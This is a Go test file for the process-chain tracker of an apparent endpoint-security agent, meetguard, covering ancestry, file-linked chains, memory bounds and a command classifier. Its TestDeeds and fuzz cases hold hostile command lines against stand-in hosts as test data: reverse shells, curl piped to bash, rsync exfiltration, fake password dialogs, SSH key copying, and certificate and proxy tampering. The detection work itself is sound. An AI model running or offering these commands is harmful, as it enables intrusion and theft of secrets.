package chain

import (
	"fmt"
	"os"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"meetguard"
)

var start = time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)

// launch takes one launch into the tracker, the way the agent does.
func launch(t *Tracker, at int, pid, ppid int, exe, line string) meetguard.Facts {
	p := &meetguard.Process{OS: "linux", PID: pid, PPID: ppid, Exe: exe, Started: start.Add(time.Duration(at) * time.Second)}
	if line != "" {
		p.Args = Split("linux", line)
	}
	t.Ancestry(p)
	f := meetguard.Facts{Path: exe, Process: p}
	t.Add(&f)
	return f
}

func TestAncestry(t *testing.T) {
	tr := New()
	launch(tr, 0, 100, 1, "/Script Editor", "")
	child := launch(tr, 1, 101, 100, "/bin/sh", "sh -c 'curl x'")
	if got := told(child.Process.Ancestors); got != "Script Editor" {
		t.Errorf("ancestors %q", got)
	}
	became := launch(tr, 1, 101, 100, "/usr/bin/curl", "curl x")
	if got := told(became.Process.Ancestors); got != "sh Script Editor" {
		t.Errorf("a shell that became curl: ancestors %q", got)
	}
	launch(tr, 9000, 100, 1, "/bin/backup", "")
	other := launch(tr, 9001, 102, 100, "/bin/sh", "sh -c true")
	if got := told(other.Process.Ancestors); got != "backup" {
		t.Errorf("below a number that came again: ancestors %q", got)
	}
	self := launch(tr, 9002, 103, 103, "/bin/odd", "")
	if len(self.Process.Ancestors) != 0 {
		t.Errorf("a process that is its own parent has ancestors")
	}
}

// The first process adopts whose parents have ended, and its path may be
// unreadable: what it adopted has nothing in common.
func TestFirstProcessIsNoParent(t *testing.T) {
	tr := New()
	adopted := func(at, pid int) string {
		p := &meetguard.Process{OS: "linux", PID: pid, PPID: 1, Exe: "/usr/bin/mv", Started: start.Add(time.Duration(at) * time.Second), Ancestors: []meetguard.Process{{PID: 1, OS: "linux"}}}
		tr.Ancestry(p)
		f := meetguard.Facts{Path: p.Exe, Process: p}
		tr.Add(&f)
		return f.Chain
	}
	if a, b := adopted(0, 300), adopted(1, 301); a == b {
		t.Errorf("two launches that the first process adopted are one chain: %s", a)
	}
}

func told(list []meetguard.Process) string {
	var out []string
	for _, p := range list {
		out = append(out, p.Exe[strings.LastIndexByte(p.Exe, '/')+1:])
	}
	return strings.Join(out, " ")
}

func TestFilesJoin(t *testing.T) {
	tr := New()
	launch(tr, 0, 50, 1, "/usr/libexec/gnome-terminal-server", "")
	launch(tr, 0, 51, 50, "/bin/bash", "bash")
	a := launch(tr, 1, 60, 51, "/usr/bin/curl", "curl -o /tmp/x https://a.invalid/x")
	b := launch(tr, 2, 61, 51, "/bin/chmod", "chmod +x /tmp/x")
	c := launch(tr, 3, 62, 1, "/bin/sh", "sh /private/tmp/x")
	d := launch(tr, 4, 63, 51, "/bin/ls", "ls /tmp")
	if a.Chain != b.Chain || a.Chain != c.Chain {
		t.Errorf("chains %q %q %q", a.Chain, b.Chain, c.Chain)
	}
	if d.Chain == a.Chain {
		t.Error("ls of the folder belongs to the chain of a file in it")
	}
	if got := links(c.Story); got != "file file self" {
		t.Errorf("story %q", got)
	}
	late := launch(tr, 4*3600, 64, 51, "/bin/sh", "sh /tmp/x")
	if late.Chain == a.Chain {
		t.Error("a file joins after hours")
	}
}

func links(steps []meetguard.Step) string {
	var out []string
	for _, s := range steps {
		out = append(out, s.Link)
	}
	return strings.Join(out, " ")
}

func TestDeeds(t *testing.T) {
	for line, want := range map[string]string{
		"curl -fsSLk https://a.invalid/p?t=1 -o /tmp/x":           "fetch /tmp/x a.invalid curl",
		"curl -F file=@/tmp/o.zip https://a.invalid":              "upload /tmp/o.zip a.invalid curl",
		"wget -qO /tmp/f.sh https://a.invalid/f.sh":               "fetch /tmp/f.sh a.invalid wget",
		"chmod 755 /tmp/x":                                        "make executable /tmp/x  ",
		"chmod 644 /tmp/x":                                        "",
		"xattr -rd com.apple.quarantine /tmp/a.app":               "dequarantine /tmp/a.app  ",
		"xattr -w com.apple.quarantine 0081 /tmp/a.app":           "",
		"codesign --force --deep -s - /tmp/a.app":                 "re-sign /tmp/a.app  ",
		"codesign --verify /tmp/a.app":                            "",
		"dscl . -authonly ann secret":                             "check password   dscl",
		"dscl . -read /Users/ann":                                 "",
		"zip -r /tmp/o.zip tdata":                                 "take secret   telegram; pack /tmp/o.zip  zip",
		"zip -r /tmp/o.zip testdata src/signal/a.go element/b.ts": "pack /tmp/o.zip  zip",
		"zip -r /tmp/o.zip guardados exodusbible":                 "pack /tmp/o.zip  zip",
		`zip -r /tmp/o.zip "Library/Application Support/Signal"`:  "take secret   messages; pack /tmp/o.zip  zip",
		"bash":                   "read commands   bash",
		"sudo -E bash /tmp/x.sh": "run /tmp/x.sh  bash",
		"sh -c 'curl -s https://a.invalid | bash'":                                         "fetch  a.invalid curl; read commands   bash",
		"osascript -e 'display dialog \"Password\" with hidden answer'":                    "ask password   osascript",
		"unzip -o /var/tmp/V.zip -d /var/tmp/V":                                            "run /var/tmp/V.zip  unpack; unpack /var/tmp/V  unzip",
		`perl -MIO::Socket -e 'IO::Socket::INET->new("192.0.2.1:443");exec("/bin/sh -i")'`: "connect  192.0.2.1 perl; run /bin/sh  program",
		"bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'":                                 "connect  192.0.2.1 bash",
		"bash -c 'echo > /dev/tcp/192.0.2.1/443'":                                          "",
		`node -e 'eval(atob("YQ=="))'`:                                                     "encoded   inline",
		"conhost --headless curl -s https://a.invalid -o /tmp/x":                           "hide   headless; fetch /tmp/x a.invalid curl",
		"ssh -o ProxyCommand='curl -s https://a.invalid -o /tmp/x' b":                      "hide   detour; fetch /tmp/x a.invalid curl",
		"forfiles /p c:/windows /m notepad.exe /c 'curl -s https://a.invalid -o /tmp/x'":   "hide   detour; fetch /tmp/x a.invalid curl",
		"bash /dev/fd/63": "read commands   bash",
		"security export -k login.keychain -t certs -o /tmp/c.pem":                       "",
		"cscript //nologo C:/tools/a.vbs":                                                "run C:/tools/a.vbs  cscript",
		"cp /Volumes/Old/Users/a/.ssh/id_rsa /Users/a/old":                               "pack /Users/a/old  copy",
		"security add-trusted-cert -d -k /Library/Keychains/System.keychain /tmp/ca.pem": "trust /tmp/ca.pem  security",
		"networksetup -setautoproxyurl Wi-Fi http://a.invalid/p.pac":                     "trust  a.invalid networksetup",
		"rsync -az /home/ana/notes drop@203.0.113.77:/in/":                               "pack drop@203.0.113.77:/in/  copy; upload /home/ana/notes 203.0.113.77 rsync",
		"python3 -c 'print(1)'":                                                          "",
		"git clone https://github.com/a/b":                                               "fetch b github.com git",
	} {
		words := Split("linux", line)
		f := meetguard.Facts{Process: &meetguard.Process{OS: "linux", Exe: words[0], Args: words}}
		var got []string
		for _, d := range Deeds(&f) {
			got = append(got, fmt.Sprintf("%s %s %s %s", d.Kind, d.File, d.Host, d.What))
		}
		if s := strings.Join(got, "; "); s != want {
			t.Errorf("%s:\n got %q\nwant %q", line, s, want)
		}
	}
}

func TestSplit(t *testing.T) {
	for _, c := range []struct {
		system, line string
		want         []string
	}{
		{"windows", `"C:\a b\c.exe" /x "d \"e\"" f\\ "g\\"`, []string{`C:\a b\c.exe`, "/x", `d "e"`, `f\\`, `g\`}},
		{"windows", `a "" b`, []string{"a", "", "b"}},
		{"linux", `a 'b c' "d \"e" f\ g`, []string{"a", "b c", `d "e`, "f g"}},
		{"darwin", ``, nil},
	} {
		if got := Split(c.system, c.line); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s: %q, want %q", c.line, got, c.want)
		}
	}
}

// TestBound: what is remembered does not grow with the number of launches.
func TestBound(t *testing.T) {
	most := 300_000
	if os.Getenv("MEETGUARD_MILLION") != "" {
		most = 1_000_000
	}
	tr := New()
	storm(tr, 0, 100_000)
	before := heap()
	storm(tr, 100_000, most)
	after := heap()
	if after > before+8<<20 {
		t.Errorf("%d KiB after 100,000 launches, %d KiB after %d", before>>10, after>>10, most)
	}
	if len(tr.nodes) > maxNodes || len(tr.files) > maxFiles || len(tr.sessions) > maxSessions {
		t.Errorf("%d launches, %d files, %d sessions", len(tr.nodes), len(tr.files), len(tr.sessions))
	}
	t.Logf("%d KiB", after>>10)
	runtime.KeepAlive(tr)
}

// storm is a long line of processes, each of which starts the next, with files.
func storm(tr *Tracker, from, to int) {
	for i := from; i < to; i++ {
		args := []string{"curl", "-o", fmt.Sprintf("/tmp/f%d", i), "https://a.invalid"}
		p := &meetguard.Process{OS: "linux", PID: 2 + i%60_000, PPID: 2 + (i-1)%60_000, Exe: "/usr/bin/curl", Args: args, Started: start.Add(time.Duration(i) * time.Millisecond)}
		if i%7 == 0 {
			p.PPID, p.Exe = 1, "/usr/bin/xterm"
		}
		tr.Ancestry(p)
		tr.Add(&meetguard.Facts{Path: p.Exe, Process: p})
	}
}

func heap() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

func BenchmarkLaunch(b *testing.B) {
	tr := New()
	storm(tr, 0, 20_000)
	for b.Loop() {
		storm(tr, 20_000, 20_001)
	}
}

func FuzzTracker(f *testing.F) {
	f.Add(`sh -c "curl -k https://a.invalid | bash & osascript -e 'do shell script \"x\"'"`, `C:\Windows\System32\cmd.exe`, 3, 2)
	f.Add(`powershell -enc AAAA; Expand-Archive -Path a -DestinationPath b`, "powershell.exe", 2, 3)
	f.Add(`tar czf`, "tar", 5, 5)
	f.Fuzz(func(t *testing.T, line, exe string, pid, ppid int) {
		tr := New()
		for i, system := range []string{"linux", "windows", "darwin"} {
			for _, args := range [][]string{nil, Split(system, line)} {
				p := &meetguard.Process{OS: system, PID: pid + i, PPID: ppid, Exe: exe, CommandLine: line, Args: args}
				tr.Ancestry(p)
				fa := meetguard.Facts{Path: exe, Process: p}
				tr.Add(&fa)
				if len(fa.Story) > maxStory || len(Deeds(&fa)) > maxDeeds {
					t.Fatal("a bound does not hold")
				}
			}
		}
	})
}

// Whoever starts thousands of programs with arguments as long as they may be
// must not have them all kept.
func TestArgumentsAreBounded(t *testing.T) {
	const launches = 2*maxNodes + 100
	tr := New()
	for n := range launches {
		p := meetguard.Process{PID: n + 2, PPID: 1, OS: "linux", Exe: "/bin/true", Args: []string{"true", strings.Repeat("x", 2<<10)}, Started: time.Unix(int64(n), 0)}
		tr.Ancestry(&p)
		if len(p.Args) != 2 {
			t.Fatal("the launch itself lost its arguments")
		}
		if tr.args.used > maxArgs {
			t.Fatalf("%d bytes are held after %d launches", tr.args.used, n+1)
		}
	}
	held, bare := 0, 0
	for _, n := range tr.order {
		if n.counts {
			held += len(n.given)
		}
		if n.words == 0 {
			t.Fatal("a launch lost its first word")
		}
		if n.words == 1 {
			bare++
		}
	}
	if held != tr.args.used || held < maxArgs/2 || bare == 0 || bare == maxNodes {
		t.Errorf("%d bytes are held, %d in the accounts; %d launches of %d lost their arguments", held, tr.args.used, bare, maxNodes)
	}
	if last := tr.nodes[launches+1]; len(last.args()) != 2 {
		t.Error("the newest launch lost its arguments")
	}
}

// TestGiven: what a launch was given is told again as it was.
func TestGiven(t *testing.T) {
	long := strings.Repeat("x", 1<<14)
	for _, c := range []struct {
		args []string
		line string
	}{{nil, ""}, {nil, "cmd /c dir"}, {[]string{"sh"}, ""}, {[]string{""}, ""}, {[]string{"", "", "a\x00b"}, "both"},
		{[]string{"sh", long[:127], long[:128], long[:1<<14-1], long, "\xff\x80"}, long}} {
		n := nodeOf(&meetguard.Process{Args: c.args, CommandLine: c.line}, nil)
		if !slices.Equal(n.args(), c.args) || n.line() != c.line || int(n.words) != len(c.args) {
			t.Errorf("%d arguments and %d bytes of a line are %d and %d", len(c.args), len(c.line), n.words, len(n.line()))
		}
		size := len(n.given)
		if n.bare(); n.line() != "" && c.args != nil || len(n.given) > size || int(n.words) != min(len(c.args), 1) {
			t.Errorf("of %d arguments %d are left, %d bytes", len(c.args), n.words, len(n.given))
		}
	}
}

// TestDeedsAreBounded: nor their deeds, nor what these are a part of. Those of one
// launch count as long as they are few.
func TestDeedsAreBounded(t *testing.T) {
	const launches = 5000
	tr := New()
	before := heap()
	for n := range launches {
		args := []string{"curl", "-o", fmt.Sprintf("/tmp/%d/%s", n, strings.Repeat("f", 900)), "https://a.invalid", strings.Repeat("x", 4<<10)}
		p := &meetguard.Process{OS: "linux", PID: n + 2, PPID: 1, Exe: "/usr/bin/curl", Args: args, Started: start.Add(time.Duration(n) * time.Millisecond)}
		tr.Ancestry(p)
		tr.Add(&meetguard.Facts{Path: p.Exe, Process: p})
		if tr.told.used > maxTold {
			t.Fatalf("%d bytes of deeds are held after %d launches", tr.told.used, n+1)
		}
	}
	told := 0
	for _, n := range tr.nodes {
		if n.deeds != nil {
			told += n.deeds.size
		}
	}
	if told != tr.told.used || told < maxTold/2 {
		t.Errorf("%d bytes of deeds are held, %d in the account", told, tr.told.used)
	}
	if took := int(heap() - before); took > 20<<20 {
		t.Errorf("%d launches take %d bytes", launches, took)
	}
	runtime.KeepAlive(tr)
}

// TestOldDeedsStayInTheStory: a chain that lives on is told with what it did
// thousands of launches ago.
func TestOldDeedsStayInTheStory(t *testing.T) {
	tr := New()
	launch := func(pid, ppid int, exe string, args ...string) []meetguard.Step {
		p := &meetguard.Process{OS: "linux", PID: pid, PPID: ppid, Exe: exe, Args: args, Started: start}
		tr.Ancestry(p)
		f := &meetguard.Facts{Path: exe, Process: p}
		tr.Add(f)
		return f.Story
	}
	launch(10, 1, "/usr/bin/bash", "bash", "/tmp/x.sh")
	launch(11, 10, "/usr/bin/curl", "curl", "-o", "/tmp/a", "https://a.invalid/a")
	for n := range maxNodes {
		launch(1000+n, 5, "/usr/bin/true", "true")
	}
	launch(10, 1, "/usr/bin/bash", "bash", "/tmp/x.sh")
	story := launch(12, 10, "/usr/bin/sh", "sh", "/tmp/a")
	for _, s := range story {
		for _, d := range s.Deeds {
			if d.Kind == meetguard.DeedFetch && d.File == "/tmp/a" && d.Host == "a.invalid" {
				return
			}
		}
	}
	t.Errorf("the story does not tell of the download: %+v", story)
}

// TestTrackerMemory: thousands of ordinary launches take what is said of them.
func TestTrackerMemory(t *testing.T) {
	before := heap()
	tr := New()
	for n := range maxNodes {
		p := &meetguard.Process{OS: "linux", PID: n + 2, PPID: 1, Exe: "/usr/bin/gcc", User: "ada", Cwd: "/home/ada/work", Source: "ebpf", Started: start.Add(time.Duration(n) * time.Second),
			Args: strings.Split(fmt.Sprintf("gcc -c -O2 -o /home/ada/work/%d.o /home/ada/work/%d.c", n, n), " ")}
		tr.Ancestry(p)
		tr.Add(&meetguard.Facts{Path: p.Exe, Process: p})
	}
	took := heap() - before
	t.Logf("%d launches take %d KiB, %d of them arguments and %d deeds", maxNodes, took>>10, tr.args.used>>10, tr.told.used>>10)
	if took > 6<<20 {
		t.Errorf("%d launches take %d bytes", maxNodes, took)
	}
	runtime.KeepAlive(tr)
}
